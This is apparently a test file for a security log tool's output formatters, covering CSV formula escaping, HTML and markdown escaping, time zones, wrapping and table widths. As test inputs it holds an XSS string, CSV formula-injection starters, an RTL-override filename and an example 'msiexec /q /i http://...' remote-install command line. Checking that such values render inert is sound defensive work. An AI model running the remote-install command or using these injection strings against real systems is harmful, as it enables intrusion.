import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell } from '../../../src/output/csv.js';
import { esc } from '../../../src/output/html.js';
import { mdCell } from '../../../src/output/markdown.js';
import { createProgress } from '../../../src/output/progress.js';
import { fitWidths, wrap } from '../../../src/output/table.js';
import { displayTime } from '../../../src/output/time.js';

test('csv cells: formula starters get an apostrophe, RFC 4180 quoting', () => {
  for (const f of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=x', '\r=x', '  =cmd']) assert.equal(csvCell(f).replace(/^"|"$/g, '')[0], "'", JSON.stringify(f));
  assert.equal(csvCell('plain'), 'plain');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('two\nlines'), '"two\nlines"');
  assert.equal(csvCell('a-b=c'), 'a-b=c', 'only a leading sign counts');
});

test('markdown and html cells are inert', () => {
  const hostile = '<img src=x onerror=alert(1)> | [x](http://e) `c` *b* \x1b[31m';
  const md = mdCell(hostile);
  assert.doesNotMatch(md, /<|(?<!\\)\||(?<!\\)\[|(?<!\\)`|\x1b/);
  const html = esc(hostile + '"\'&');
  assert.doesNotMatch(html, /[<>"'\x1b]|&(?!amp;|lt;|gt;|quot;|#39;)/);
});

test('displayed times: UTC as given, other zones with their offset (DST included)', () => {
  assert.equal(displayTime('2024-05-14T09:00:05.000Z', undefined), '2024-05-14T09:00:05.000Z');
  assert.equal(displayTime('2024-05-14T09:00:05.000Z', 'UTC'), '2024-05-14T09:00:05.000Z');
  assert.equal(displayTime('2024-05-14T09:00:05.120Z', 'Europe/Berlin'), '2024-05-14T11:00:05.120+02:00');
  assert.equal(displayTime('2024-01-14T09:00:05.000Z', 'Europe/Berlin'), '2024-01-14T10:00:05.000+01:00');
  assert.equal(displayTime('2024-01-14T09:00:05.000Z', 'America/St_Johns'), '2024-01-14T05:30:05.000-03:30');
});

test('wrap breaks near separators and never exceeds the width', () => {
  assert.deepEqual(wrap('Network Connection via Certutil', 18), ['Network Connection', 'via Certutil']);
  // Issue #26: a word wider than the column is cut with a marker, never split over lines.
  assert.deepEqual(wrap('samples/scenarios/newest-first.ndjson:4', 16), ['samples/', 'scenarios/', 'newest-first.nd…']);
  assert.deepEqual(wrap('151.101.0.133:443', 16), ['151.101.0.133:4…']);
  assert.deepEqual(wrap('MSEDGEWIN10 x', 10), ['MSEDGEWIN…', 'x']);
  for (const w of [1, 5, 9, 17]) for (const line of wrap('C:\\Windows\\System32\\certutil.exe -urlcache', w)) assert.ok(line.length <= w);
  for (const w of [8, 9, 10, 12, 16]) {
    const lines = wrap('/tmp/x/evil\\u{202e}gpj.ndjson:2', w);
    assert.ok(lines.some((l) => l.includes('\\u{202e}')), `escape split at width ${w}: ${JSON.stringify(lines)}`);
  }
});

test('table widths fit any terminal from 80 columns, dropping the process column first', () => {
  const row = ['2024-05-14 09:00:05Z', 'medium', 'Unusual Network Activity from a Windows System Binary', 'SRV-APP-02', 'msiexec.exe (7500)', 'msiexec.exe /q /i http://91.92.240.7/x.msi', '91.92.240.7:80', 'logs/host-a/2024-05-14.ndjson:123456'];
  for (let columns = 80; columns <= 260; columns++) {
    const widths = fitWidths([row], columns);
    const shown = widths.filter((w) => w > 0);
    const total = shown.reduce((s, w) => s + w + 3, 1);
    assert.ok(total <= columns, `${total} > ${columns}`);
    for (const i of [0, 1, 2, 7]) assert.ok(widths[i]! > 0, `column ${i} kept at ${columns}`);
    if (widths[5] === 0) assert.equal(widths[4], 0, 'the command line goes only after the process column');
    if (widths[3] === 0) assert.equal(widths[5], 0, 'host goes only after the command line');
  }
  assert.ok(fitWidths([row], 260).every((w) => w > 0));
});

test('progress redraws at most every 250 ms, on one line, and clears itself', () => {
  let now = 0;
  const writes: string[] = [];
  const p = createProgress({ write: (s: string) => writes.push(s) }, { bytes: 1000, files: 2 }, () => now);
  for (let i = 0; i < 10_000; i++) {
    now = i / 10; // 10,000 updates over one second
    p.update({ bytes: i / 10, events: i, candidates: 3, filesDone: 0 });
  }
  assert.equal(writes.length, 4, `${writes.length} redraws: at 0, 250, 500 and 750 ms`);
  assert.match(writes[writes.length - 1]!, /^\r\x1b\[K.*\/.* · 0\/2 files · \d+ events\/s · ETA \d+s · 3 matching events$/);
  p.done();
  assert.equal(writes[writes.length - 1], '\r\x1b[K');
});
